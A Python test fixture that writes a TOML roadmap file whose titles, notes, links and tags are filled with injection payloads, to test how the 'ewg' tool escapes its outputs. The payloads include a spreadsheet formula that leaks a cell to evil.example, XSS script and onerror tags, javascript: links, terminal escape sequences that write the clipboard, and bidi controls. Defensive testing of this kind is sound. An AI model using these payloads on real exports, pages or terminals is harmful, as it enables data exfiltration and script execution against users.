"""A roadmap whose free text tries every trick against the formats ewg writes."""

from __future__ import annotations

from pathlib import Path

from ewg.tomlwrite import format_value

# Markdown, HTML and script, a javascript: link, a spreadsheet formula, terminal
# escape sequences (SGR colour, OSC 8 hyperlink, OSC 52 clipboard), bidi controls,
# and the separators of CSV, iCalendar and Mermaid.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click") '
    "<script>alert('x')</script> <img src=x onerror=alert(1)> "
    "[click](javascript:alert(1)) **bold** _it_ `code` | pipe "
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07osc-link\x1b]8;;\x07 "
    "\x1b]52;c;ZXZpbA==\x07 \u202eevil\u202c \u2066iso\u2069 "
    "a;b,c\\d: #hash %%comment\nBEGIN:VEVENT\nclick x href javascript:alert(1)"
)
FORMULAS = ("=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1", "\r=1")
BAD_LINK = "javascript:alert(document.domain)"
GOOD_LINK = "https://example.org/a_(b)|c"


def write_hostile_roadmap(path: Path) -> Path:
    """Write a roadmap whose titles, notes, reasons and decisions are hostile."""
    v = format_value
    lines = [
        "[roadmap]",
        f"title = {v('Roadmap ' + HOSTILE)}",
        "",
        "[areas.innovation]",
        f"name = {v('Innovation ' + HOSTILE)}",
        'prefix = "INN"',
        "",
        "[owners.sre]",
        f"name = {v('SRE ' + HOSTILE)}",
        'sector = "government"',
        'country = "MX"',
        "",
        "[milestones.m1]",
        f"title = {v('Milestone ' + HOSTILE)}",
        "due = 2026-12-18",
        "",
        "[[items]]",
        'id = "INN-1"',
        f"title = {v(HOSTILE)}",
        'area = "innovation"',
        'owners = ["sre"]',
        'status = "blocked"',
        'milestone = "m1"',
        "start = 2026-01-05",
        "due = 2026-06-30",
        f"notes = {v('Notes ' + HOSTILE)}",
        f"reason = {v('Reason ' + HOSTILE)}",
        f"links = {v([BAD_LINK, GOOD_LINK])}",
        f"tags = {v(['=cmd', HOSTILE])}",
    ]
    for n, formula in enumerate(FORMULAS, start=2):
        lines += [
            "",
            "[[items]]",
            f'id = "INN-{n}"',
            f"title = {v(formula)}",
            'area = "innovation"',
            'owners = ["sre"]',
            'status = "planned"',
            "due = 2027-01-15",
        ]
    lines += [
        "",
        "[[meetings]]",
        "date = 2026-11-20",
        f"title = {v('Meeting ' + HOSTILE)}",
        'attendees = ["sre"]',
        f"decisions = {v([HOSTILE, '=2+5'])}",
        'items = ["INN-1"]',
        "",
    ]
    path.write_text("\n".join(lines), encoding="utf-8")
    return path
